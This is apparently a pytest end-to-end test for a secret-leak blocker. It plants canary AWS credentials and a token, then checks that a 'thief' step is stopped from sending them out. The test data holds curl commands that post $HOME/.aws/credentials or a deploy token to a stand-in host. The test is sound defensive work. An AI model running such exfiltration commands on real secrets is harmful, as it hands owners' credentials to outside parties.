# SPDX-License-Identifier: MIT
"""Canaries under act: planted before the first step, stopped on their way out, gone in the end."""

from __future__ import annotations

import pytest

from e2e.acting import ACTION, Bench
from lab import Lab

pytestmark = [pytest.mark.root, pytest.mark.act]

STEPS = f"""
- uses: {ACTION}
  with: {{{{canaries: true, allow: home.test}}}}
- id: thief
  run: |
    ls -A "$HOME/.aws"
    {{send}} https://home.test/ || echo "curl ended with $?"
"""
WAYS = {
    "a file": 'curl -sS -m 10 --data-binary @"$HOME/.aws/credentials"',
    "the environment": 'curl -sS -m 10 -d "$DEPLOY_SERVICE_TOKEN"',
}
CANARIES = {
    "a file": ["CANARY_AWS_ACCESS_KEY_ID", "CANARY_AWS_SECRET_ACCESS_KEY"],
    "the environment": ["CANARY_VARIABLE"],
}


@pytest.mark.parametrize("way", WAYS)
def test_a_canary_does_not_leave(acting: Bench, lab: Lab, way: str) -> None:
    """Not even to an allowed host: nobody has a reason to send one."""
    outcome = acting.run(STEPS.format(send=WAYS[way]))
    said = outcome.said("Main", "thief").splitlines()
    assert (said[0], said[-1]) == ("credentials", "curl ended with 137")
    assert outcome.red
    titles = {error.title for error in outcome.annotations("error")}
    assert titles == {"Leakstop: a secret was stopped on its way out"}
    told = {finding["secret"] for finding in outcome.record("finding")}
    assert told == set(CANARIES[way])
    assert not lab.home.received(b"POST"), "a handshake is all that it saw"
    assert [*acting.directory.glob("home-*/.aws")] == []
